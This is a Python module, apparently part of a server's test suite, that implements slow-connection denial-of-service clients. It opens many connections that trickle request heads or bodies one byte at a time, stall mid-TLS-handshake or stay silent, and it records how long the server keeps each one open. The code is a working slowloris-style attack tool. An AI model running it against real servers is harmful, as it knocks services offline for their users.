"""Clients that tie up a server's connections the way an attacker inside the cluster would: many of them, from one
background thread, each reconnecting as soon as the server closes it.

Kinds (``Attack.kind``):

* ``trickle-head``: a full TLS handshake, then a request head sent one byte every ``interval`` seconds (never
  silent long enough for a per-read timeout);
* ``trickle-body``: a whole head announcing a large ``Content-Length``, then the body one byte every ``interval``;
* ``partial-handshake``: the first bytes of a real TLS ClientHello, then nothing;
* ``silent``: a TCP connection that sends nothing at all.

Each connection is non-blocking and driven by one selector loop, so a thousand of them cost one thread. The attack
records when each connection opened and when the server closed it (``lifetimes``).
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import ssl
import threading
import time
from dataclasses import dataclass, field

KINDS = ("trickle-head", "trickle-body", "partial-handshake", "silent")


def client_hello(server_hostname: str) -> bytes:
    """The ClientHello a default client context sends (from a memory BIO: no network)."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=server_hostname)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


@dataclass
class _Slow:
    sock: socket.socket | ssl.SSLSocket
    opened: float
    payload: bytes = b""
    sent: int = 0
    next_send: float = 0.0
    handshaking: bool = False


@dataclass
class Attack:
    host: str
    port: int
    server_hostname: str
    context: ssl.SSLContext
    kind: str
    connections: int
    interval: float = 2.0
    lifetimes: list[tuple[float, float]] = field(default_factory=list)  # (opened, closed by the server)
    opened: int = 0
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"kind must be one of {KINDS}")
        self._hello = client_hello(self.server_hostname)

    def __enter__(self) -> Attack:
        self._thread = threading.Thread(target=self._run, name=f"attack-{self.kind}", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=10)

    # -- the loop -------------------------------------------------------------------------------------------

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        slow: list[_Slow] = []
        try:
            while not self._stop.is_set():
                while len(slow) < self.connections:
                    opened = self._open(selector)
                    if opened is None:
                        break
                    slow.append(opened)
                now = time.monotonic()
                for key, _ in selector.select(timeout=0.05):
                    conn = key.data
                    if not self._readable(conn):
                        self._closed(selector, slow, conn)
                for conn in list(slow):
                    if conn.handshaking:
                        self._handshake(selector, slow, conn)
                    elif conn.payload and conn.sent < len(conn.payload) and now >= conn.next_send:
                        try:
                            conn.sock.send(conn.payload[conn.sent : conn.sent + 1])
                            conn.sent += 1
                            conn.next_send = now + self.interval
                        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                            pass
                        except OSError:
                            self._closed(selector, slow, conn)
        finally:
            for conn in slow:
                conn.sock.close()
            selector.close()

    def _open(self, selector: selectors.BaseSelector) -> _Slow | None:
        try:
            raw = socket.create_connection((self.host, self.port), timeout=5)
        except OSError:
            return None
        raw.setblocking(False)
        self.opened += 1
        conn = _Slow(raw, time.monotonic())
        if self.kind == "partial-handshake":
            raw.send(self._hello[: len(self._hello) // 2])
        elif self.kind in ("trickle-head", "trickle-body"):
            conn.sock = self.context.wrap_socket(
                raw, server_hostname=self.server_hostname, do_handshake_on_connect=False
            )
            conn.handshaking = True
            head = f"POST /validate HTTP/1.1\r\nHost: {self.server_hostname}\r\nContent-Type: application/json\r\n"
            if self.kind == "trickle-head":
                conn.payload = head.encode() + b"X-Padding: " + b"a" * 4096
            else:
                conn.payload = (head + "Content-Length: 2000000\r\n\r\n").encode() + b"{" * 2_000_000
        selector.register(conn.sock, selectors.EVENT_READ, conn)
        return conn

    def _handshake(self, selector: selectors.BaseSelector, slow: list[_Slow], conn: _Slow) -> None:
        try:
            conn.sock.do_handshake()  # type: ignore[union-attr]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self._closed(selector, slow, conn)
            return
        conn.handshaking = False
        if self.kind == "trickle-body":  # the whole head at once: the body is what trickles
            head_end = conn.payload.index(b"\r\n\r\n") + 4
            conn.sock.send(conn.payload[:head_end])
            conn.sent = head_end
        conn.next_send = time.monotonic()

    def _readable(self, conn: _Slow) -> bool:
        """False when the server closed the connection (EOF, reset, or an answer followed by a close)."""
        if conn.handshaking:
            return True  # the handshake step reads
        try:
            data = conn.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False
        return bool(data) and not self._stop.is_set()

    def _closed(self, selector: selectors.BaseSelector, slow: list[_Slow], conn: _Slow) -> None:
        if conn not in slow:
            return
        slow.remove(conn)
        self.lifetimes.append((conn.opened, time.monotonic()))
        with contextlib.suppress(KeyError, ValueError):
            selector.unregister(conn.sock)
        conn.sock.close()
